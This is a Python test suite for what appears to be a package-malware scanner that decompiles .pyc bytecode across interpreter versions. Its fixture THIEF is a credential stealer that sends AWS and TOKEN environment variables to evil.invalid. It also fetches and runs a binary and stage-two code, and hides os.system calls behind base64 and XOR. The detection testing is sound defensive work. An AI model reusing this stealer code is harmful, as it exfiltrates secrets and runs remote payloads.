"""Compiled Python: the same facts as its source, for every interpreter that is at hand."""

from __future__ import annotations

import ast
import hashlib
import io
import marshal
import os
import re
import struct
import subprocess
import sys
import types
import zipfile
from functools import cache
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from antivenom.languages.python.bytecode_stack import Shared
from antivenom.languages.python.marshal_reader import Code, MarshalError, read
from antivenom.languages.python.marshalled import module_from_marshal, module_from_pyc
from antivenom.languages.python.opcodes import VERSIONS, table
from antivenom.model.artifact import Artifact
from antivenom.model.coordinate import Ecosystem
from antivenom.pipeline import observe

THIEF = """
import os
import base64 as b
import subprocess
from urllib.request import urlopen, Request


def collect(prefix="AWS_"):
    return {k: v for k, v in os.environ.items() if "TOKEN" in k or k.startswith(prefix)}


def run(url, mode=None):
    data = urlopen(url).read()
    path = os.path.join("/tmp", "x.bin")
    with open(path, "wb") as file:
        file.write(data)
    os.chmod(path, 493)
    if mode is not None and mode > 1:
        return path
    for _ in range(3):
        subprocess.Popen([path], shell=False)
    try:
        exec(urlopen("http://evil.invalid/stage2").read())
    except (ValueError, OSError) as error:
        print(error)


class Thief(object):
    def __init__(self, url):
        self.url = url

    def go(self):
        urlopen(Request(self.url, data=str(collect()).encode()))


run("http://evil.invalid/a.bin", mode=1)
Thief("http://evil.invalid/c").go()
exec(b.b64decode(b"aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))
os.system("".join(map(chr, [105, 100])))
os.system("".join(chr(c ^ 1) for c in [104, 101]))
"""
_KNOWN = ("2.7", "3.6", "3.7", "3.8", "3.9", "3.10", "3.11", "3.12", "3.13", "3.14")


@cache
def interpreters() -> dict[str, str]:
    """Version -> an interpreter of this machine, for compiling sources that are written here."""
    found = {"{}.{}".format(*sys.version_info): sys.executable}
    root = Path(os.environ.get("PYENV_ROOT", Path.home() / ".pyenv")) / "versions"
    for folder in sorted(root.iterdir()) if root.is_dir() else ():
        version = ".".join(folder.name.split(".")[:2])
        if version in _KNOWN and (folder / "bin" / "python").exists():
            found.setdefault(version, str(folder / "bin" / "python"))
    return found


def compiled(source: str, version: str, folder: Path) -> bytes:
    """Compile a source with an interpreter; skip where it is not installed."""
    if version not in interpreters():
        pytest.skip(f"no Python {version} here")
    path = folder / "source.py"
    path.write_text(source)
    target = folder / "out.pyc"
    code = "import py_compile, sys; py_compile.compile(sys.argv[1], sys.argv[2], doraise=True)"
    subprocess.run(
        [interpreters()[version], "-c", code, str(path), str(target)], check=True, timeout=60
    )
    return target.read_bytes()


def facts(name: str, data: bytes) -> set[tuple[str, str, str, str, int, tuple[str, ...]]]:
    """What code in a wheel does: behaviors and flows, wherever they stand."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as wheel:
        wheel.writestr(f"p/{name}", data)
        wheel.writestr("p-1.dist-info/METADATA", "Metadata-Version: 2.1\nName: p\nVersion: 1\n")
        wheel.writestr("p-1.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
    raw = archive.getvalue()
    filename = "p-1-py3-none-any.whl"
    profile = observe(
        Artifact(
            path=filename,
            filename=filename,
            sha256=hashlib.sha256(raw).hexdigest(),
            size=len(raw),
            ecosystem=Ecosystem.PYPI,
            data=raw,
        )
    )
    assert not profile.coverage.problems
    return {
        (f.id, f.value, f.host, f.activation, f.layer, f.via)
        for f in profile.facts
        if f.observer != "text" and not f.id.startswith(("archive.", "text."))
    }


@pytest.mark.parametrize("version", _KNOWN)
def test_bytecode_has_the_facts_of_its_source(version: str, tmp_path: Path) -> None:
    expected = facts("__init__.py", THIEF.encode())
    assert {"net.fetch", "code.run", "process.spawn"} <= {f[0] for f in expected}
    assert facts("__init__.pyc", compiled(THIEF, version, tmp_path)) == expected


STARTED = """
import subprocess
import sys


def show(name):
    return subprocess.Popen(["demo-viewer", name])


if __name__ == "__main__":
    try:
        name = sys.argv[1]
    except IndexError:
        print("usage: show NAME")
    else:
        print(show(name))
"""


@pytest.mark.parametrize("version", _KNOWN)
def test_what_only_the_main_program_does_is_not_done_on_import(
    version: str, tmp_path: Path
) -> None:
    found = facts("__init__.pyc", compiled(STARTED, version, tmp_path))
    assert {f[3] for f in found if f[0] == "process.spawn"} == {"run"}


@pytest.mark.parametrize("version", _KNOWN)
def test_raw_marshal_tells_its_version(version: str, tmp_path: Path) -> None:
    data = compiled(THIEF, version, tmp_path)
    header = {"2.7": 8, "3.6": 12}.get(version, 16)
    whole = module_from_pyc(data, member="m.py", name="")
    raw = module_from_marshal(data[header:], member="m.py", layer=3)
    assert whole is not None and raw is not None
    assert raw.text == whole.text
    assert raw.layer == 3


SHAPES = """
import a.b.c as abc
import a.b
from . import near
from .. import far as distant
from x import (y as z, w)
from star import *


@outer(1)
@inner
def f(a, b=2, *c, **d):
    global G
    G = lambda q, r=3: q + r
    def g():
        return a
    return g


class K(Base1, Base2):
    field = {"k": [1, (2, 3)], "l": {4}}

    @staticmethod
    def m(u):
        u.attr[0] += -u.other ** ~3
        del u.attr
        return u.x if u.y else not u.z


first, (second, third) = one, two = pair()
value = left and middle or right
if low or mid and high:
    taken()
else:
    other()
text = "%s-%s" % (first, second)
part = text[1:] + text[:2] + text[::2] + text[first:second]
made = [i * 2 for i in source if i > 1 if i], {i for i in source}, {i: j for i, j in pairs}
call(*args, key=1, **kw)
call(1, *args)
with manager() as bound, other():
    inside(bound)
while going():
    step()
    if stop():
        break
try:
    risky()
except Error as error:
    handle(error)
finally:
    cleanup()
assert checked(1), "message"
raise Bad("why")
"""


@pytest.mark.parametrize("version", _KNOWN)
def test_every_call_name_and_constant_survives(version: str, tmp_path: Path) -> None:
    module = module_from_pyc(compiled(SHAPES, version, tmp_path), member="m.py", name="m")
    assert module is not None
    assert module.partial == ""
    text = module.text
    for name in ("pair()", "manager()", "inside(bound)", "going()", "step()", "stop()", "risky()"):
        assert name in text, name
    for line in ("@outer(1)", "@inner", "class K(Base1, Base2)", "@staticmethod", "global G"):
        assert line in text, line
    for piece in ("import a.b.c as abc", "import a.b\n", "from x import y as z", "import *"):
        assert piece in text, piece
    for piece in ("handle(error)", "cleanup()", "checked(1)", "raise Bad('why')"):
        assert piece in text, piece
    assert "key=1" in text or "'key': 1" in text
    chosen = next(x for x in text.split("\n") if x.startswith("value ="))
    assert "right" in chosen
    assert "middle" in chosen or re.search(r"_v\d+ = middle", text)
    assert "if low or (mid and high):" in text
    for piece in ("for i in source", "'k': [1, (2, 3)]", "text[1:]", "text[::2]", "*args", "**kw"):
        assert piece in text, piece


@pytest.mark.parametrize("version", ["3.6", "3.8", "3.10", "3.11", "3.12", "3.13"])
def test_newer_shapes(version: str, tmp_path: Path) -> None:
    source = """
async def f(a, *, key=1):
    async with a() as b:
        await b.c(f"{key!r:>{a}}-{b}")
    async for i in b:
        yield i

def g():
    got = yield from h()
    return [*got, *got], {**got, "x": 1}

class K(metaclass=M):
    def m(self):
        return super().m(key=2)
"""
    module = module_from_pyc(compiled(source, version, tmp_path), member="m.py", name="m")
    assert module is not None
    assert module.partial == ""
    for piece in (
        "async def f(a, *, key=1)",
        "b.c(f'{key!r:>{a}}-{b}')",
        "h()",
        "super().m(key=2)",
    ):
        assert piece in module.text, piece
    assert "metaclass=M" in module.text
    assert "*got" in module.text and "'x': 1" in module.text


def test_tables_know_every_version() -> None:
    assert set(VERSIONS) == set(_KNOWN)
    for version in VERSIONS:
        names = set(table(version).values())
        assert {"LOAD_CONST", "LOAD_NAME", "STORE_NAME", "IMPORT_NAME", "RETURN_VALUE"} <= names


def test_tables_agree_with_the_running_interpreter() -> None:
    import opcode

    version = "{}.{}".format(*sys.version_info)
    if version not in VERSIONS:
        pytest.skip("newer than the tables")
    known = table(version)
    real = {n: o for n, o in opcode.opmap.items() if o < 256 and not n.startswith("INSTRUMENTED")}
    assert {known[o] for o in real.values() if o in known} <= set(real)
    assert all(known.get(o) == n for n, o in real.items())


def test_marshal_values_are_read_as_data() -> None:
    values = (1, -(2**80), 1.5, 2j, "text", "t\u00e9xt", b"raw", None, True, ..., (), ("a",))
    for version in range(5):
        found, _ = read(marshal.dumps(values, version))
        assert found == values
    found, _ = read(marshal.dumps([{"k": 1}, {1, 2}, frozenset("x")]))
    assert found == [["k", 1], (1, 2), ("x",)]
    big = 3**5000
    assert read(marshal.dumps(big))[0] == big


def test_code_objects_are_data() -> None:
    found, texts = read(marshal.dumps(compile("print('hello')", "f.py", "exec")))
    assert isinstance(found, Code)
    assert not isinstance(found, types.CodeType)
    assert "hello" in texts


def test_unknown_bytecode_still_shows_its_constants() -> None:
    code = compile("x = 'http://evil.invalid/a'", "f.py", "exec")
    strange = code.replace(co_code=bytes([255, 0, 254, 0] * 20))
    module = module_from_marshal(marshal.dumps(strange), member="m.py", layer=1)
    assert module is not None
    assert "http://evil.invalid/a" in module.text
    assert "unknown version" in module.partial


def test_cut_data_shows_what_was_read() -> None:
    data = marshal.dumps(compile("x = 'http://evil.invalid/a'; y = 'second'", "f.py", "exec"))
    module = module_from_marshal(data[:-20], member="m.py", layer=1)
    assert module is not None
    assert "http://evil.invalid/a" in module.text
    assert module.partial


def test_functions_that_nothing_makes_are_read() -> None:
    inner = compile("def hidden():\n    import os\n    os.system('x')", "f.py", "exec")
    outer = compile("pass", "f.py", "exec").replace(co_consts=(None, inner.co_consts[0]))
    module = module_from_marshal(marshal.dumps(outer), member="m.py", layer=1)
    assert module is not None
    assert "def hidden()" in module.text and "os.system('x')" in module.text


def test_hostile_names_are_made_harmless() -> None:
    code = compile("aa = bb.cc", "f.py", "exec").replace(co_names=("a\nimport x", "if", "c;d"))
    module = module_from_marshal(marshal.dumps(code), member="m.py", layer=1)
    assert module is not None
    ast.parse(module.text)
    assert "import x" not in module.text


def _code(consts: tuple[object, ...], code: bytes) -> types.CodeType:
    made = compile("pass", "f.py", "exec")
    return made.replace(co_consts=consts, co_code=code, co_stacksize=10)


def _op(name: str, arg: int = 0) -> bytes:
    version = "{}.{}".format(*sys.version_info)
    number = {n: o for o, n in table(version).items()}[name]
    return bytes([number, arg])


@pytest.mark.skipif(sys.version_info[:2] not in {(3, 11), (3, 12)}, reason="instructions of 3.11")
def test_shared_values_do_not_multiply() -> None:
    doubled = _op("LOAD_CONST", 0) + (_op("COPY", 1) + _op("BUILD_TUPLE", 2)) * 5_000
    data = marshal.dumps(_code(("x", None), _op("RESUME") + doubled + _op("RETURN_VALUE")))
    module = module_from_marshal(data, member="m.py", layer=1)
    assert module is not None
    assert len(module.text) < 1 << 20
    loads = _op("RESUME") + _op("LOAD_CONST", 0) * 2_000 + _op("RETURN_VALUE")
    long = "a" * 100_000
    module = module_from_marshal(marshal.dumps(_code((long, None), loads)), member="m", layer=1)
    assert module is not None
    assert len(module.text) < 300_000


def test_tuples_that_hold_each_other_do_not_multiply() -> None:
    level = b"\xa9\x02"  # a tuple of two, remembered
    data = (
        level * 60 + b"\xa9\x00" + b"".join(b"r" + struct.pack("<i", n) for n in range(60, 0, -1))
    )
    nested, _ = read(data)
    shared = Shared("3.11")
    for _ in range(50):
        assert len(ast.unparse(shared.constant(nested))) < 4 << 20


def test_shared_code_is_read_once() -> None:
    code = compile("def f():\n    pass", "f.py", "exec")
    for _ in range(40):
        source = "def f():\n    pass\ndef g():\n    pass"
        outer = compile(source, "f.py", "exec")
        twice = [code if isinstance(x, types.CodeType) else x for x in outer.co_consts]
        code = outer.replace(co_consts=tuple(twice))
    module = module_from_marshal(marshal.dumps(code), member="m.py", layer=1)
    assert module is not None
    assert len(module.text) < 100_000


@pytest.mark.parametrize(
    "data",
    [
        b"(" + struct.pack("<i", 2**31 - 1),
        b"[" + struct.pack("<i", -5),
        b"l" + struct.pack("<i", -(2**31)),
        b"(\x01\x00\x00\x00" * 5_000,
        b"\xdb\x01\x00\x00\x00r\x00\x00\x00\x00",
        b"r\x05\x00\x00\x00",
        b"{" * 2_000,
        b"",
        b"c",
    ],
)
def test_impossible_marshal_is_refused(data: bytes) -> None:
    try:
        read(data)
    except MarshalError:
        pass
    assert module_from_marshal(data, member="m.py", layer=1) is None


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_are_read(data: bytes) -> None:
    module_from_marshal(data, member="m.py", layer=1)
    module_from_marshal(b"\xe3" + data, member="m.py", layer=1)
    module_from_pyc(data, member="m.py", name="m")


_SEED = marshal.dumps(compile(THIEF, "m.py", "exec"))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(_SEED) - 1), st.integers(0, 255)), max_size=40))
def test_any_damage_is_survived(edits: list[tuple[int, int]]) -> None:
    data = bytearray(_SEED)
    for place, value in edits:
        data[place] = value
    module = module_from_marshal(bytes(data), member="m.py", layer=1)
    if module is not None:
        assert module.functions[0].body is not None
        assert len(module.text) < 4 << 20


@settings(max_examples=100, deadline=None)
@given(st.binary(min_size=2, max_size=400))
def test_any_bytecode_is_survived(code: bytes) -> None:
    made = compile("a.b(c, 'd')\nimport e", "f.py", "exec")
    # Spliced into the bytes: the interpreter itself must never hold such a code object.
    data, real = marshal.dumps(made), made.co_code
    new = _op("RESUME") * 12 + code
    old_size, new_size = struct.pack("<i", len(real)), struct.pack("<i", len(new))
    assert old_size + real in data
    spliced = data.replace(old_size + real, new_size + new, 1)
    assert module_from_marshal(spliced, member="m.py", layer=1) is not None


def test_bytecode_of_3_14_assembled_by_hand() -> None:
    numbers = {name: number for number, name in table("3.14").items()}
    units = [
        ("RESUME", 0, 0),
        ("LOAD_SMALL_INT", 0, 0),
        ("LOAD_CONST", 1, 0),
        ("IMPORT_NAME", 0, 0),
        ("STORE_NAME", 0, 0),
        ("LOAD_NAME", 0, 0),
        ("LOAD_ATTR", 3, 9),
        ("LOAD_CONST", 2, 0),
        ("CALL", 1, 3),
        ("POP_TOP", 0, 0),
        ("LOAD_CONST", 1, 0),
        ("RETURN_VALUE", 0, 0),
    ]
    code = b"".join(bytes([numbers[n], arg]) + b"\0\0" * spaces for n, arg, spaces in units)
    made = compile("import os\nos.system('id')", "f.py", "exec").replace(co_consts=(0, None, "id"))
    data, real = marshal.dumps(made), made.co_code
    sizes = struct.pack("<i", len(real)), struct.pack("<i", len(code))
    spliced = data.replace(sizes[0] + real, sizes[1] + code, 1)
    for module in (
        module_from_marshal(spliced, member="m.py", layer=1),
        module_from_pyc(b"\x2b\x0e\r\n" + bytes(12) + spliced, member="m.py", name="m"),
    ):
        assert module is not None
        assert module.partial == ""
        assert module.text == "import os\nos.system('id')"
